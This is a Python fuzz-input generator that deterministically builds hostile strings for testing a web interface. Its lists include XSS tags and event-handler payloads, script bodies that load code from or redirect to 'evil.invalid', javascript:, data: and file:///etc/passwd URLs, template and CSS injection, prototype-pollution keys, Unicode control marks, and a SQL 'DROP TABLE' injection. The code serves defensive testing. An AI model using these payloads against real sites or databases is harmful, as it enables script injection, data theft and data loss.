"""Strings that try to be more than text. What is made is the same for the same seed."""

import random

TAGS = ["img", "svg", "iframe", "object", "embed", "base", "meta", "link", "style", "script", "form", "input", "video",
        "audio", "math", "template", "textarea", "title", "details", "a", "body", "select", "noscript", "plaintext"]
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationstart", "onpointerdown"]
SCRIPTS = ["alert(1)", "confirm`1`", "prompt(document.domain)", "location='//evil.invalid'", "fetch('/stolen')",
           "import('//evil.invalid/x.js')", "eval(name)", "top.document.title='taken'"]
URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "//evil.invalid/x", "http://evil.invalid/x.png", "\\\\evil.invalid\\x", "file:///etc/passwd",
        "blob:null/1", "stolen.png", "/stolen", "../../stolen", "ws://evil.invalid", "mailto:a@evil.invalid"]
EXITS = ["", "\">", "'>", "`>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</noscript>", "*/",
         "}", "})", "\"]", "');", "\\", "\\\"", "<!--", "<![CDATA[", "?>"]
TEMPLATES = ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "{%raw%}",
             "[[alert(1)]]", "@{alert(1)}", "%{alert(1)}", "$(alert(1))", "`${alert(1)}`", "{alert(1)}", "%s%n%x%d"]
STYLES = ["}*{display:none}", "expression(alert(1))", "url(http://evil.invalid/x)", "@import '//evil.invalid/x.css'",
          "behavior:url(#default)", "--accent:red", "position:fixed;inset:0"]
NAMES = ["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "length",
         "then", "toJSON", "rawJSON", "isRawJSON", "size", "get", "0", "-1", "1e3", "", " ", "null", "undefined", "NaN",
         "true", "event-0", "#event-0", "events", "panel", "seq", "on", "class", "hidden", "innerHTML"]
POINTERS = ["/", "//", "~", "~0", "~1", "~2", "/a/b", "~01", "/__proto__/polluted", "/0/-", "-"]
MARKS = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200e", "\u200f", "\u061c", "\u200b", "\u200c", "\u200d",
         "\u2060", "\ufeff", "\u00ad", "\u034f", "\u0000", "\u001b[31m", "\u007f", "\u0085", "\u2028", "\u2029", "\r\n",
         "\t", "\ufffd", "\uffff", "\ue000", "\U000e0041", "e\u0301", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
         "\u0f3a\u0300" * 3, "\ufdfd", "\U00012019", "\u3164", "\u2800"]
HUGE = ["x" * 5000, "\u0301" * 3000, "<b>" * 2000, "\u202e" * 500, "/" * 1500, "\n" * 1500, "\U0001f600" * 800]


def strings(count, seed=1):
    """So many different strings; every kind is among each few dozen."""
    chance = random.Random(seed)
    pick = chance.choice
    kinds = [
        lambda: f"{pick(EXITS)}<{pick(TAGS)} {pick(HANDLERS)}={pick(SCRIPTS)}>",
        lambda: f"{pick(EXITS)}<{pick(TAGS)} src={pick(URLS)} {pick(HANDLERS)}=\"{pick(SCRIPTS)}\" autofocus tabindex=1>",
        lambda: f"{pick(EXITS)}<{pick(TAGS)}/href='{pick(URLS)}'>{pick(SCRIPTS)}</{pick(TAGS)}>",
        lambda: f"<ScRiPt>{pick(SCRIPTS)}</sCrIpT >{pick(EXITS)}",
        lambda: f"<style>{pick(STYLES)}</style>",
        lambda: f"&lt;{pick(TAGS)}&gt;&#x3c;script&#62;{pick(SCRIPTS)}",
        lambda: pick(URLS) + pick(["", "#", "?", "&"]) + str(chance.random()),
        lambda: pick(TEMPLATES) + str(chance.randrange(1000)),
        lambda: pick(NAMES) + pick(["", "", " ", "\u200b", str(chance.randrange(10000))]),
        lambda: pick(POINTERS) + pick(NAMES) + pick(POINTERS),
        lambda: "".join(pick(MARKS) for _ in range(chance.randrange(1, 8))) + pick(NAMES),
        lambda: f"{pick(MARKS)}<{pick(MARKS)}{pick(TAGS)} {pick(MARKS)}{pick(HANDLERS)}={pick(SCRIPTS)}>",
        lambda: pick(EXITS) + pick(STYLES),
        lambda: f"'; DROP TABLE session; -- {chance.randrange(10**6)}",
        lambda: pick(HUGE) + pick(NAMES),
    ]
    made = {}
    for index in range(count * 20):
        if len(made) == count:
            break
        # Few long strings are enough.
        kind = kinds[index % len(kinds)] if index % len(kinds) < len(kinds) - 1 or chance.random() < 0.1 else kinds[0]
        made.setdefault(kind())
    return list(made)
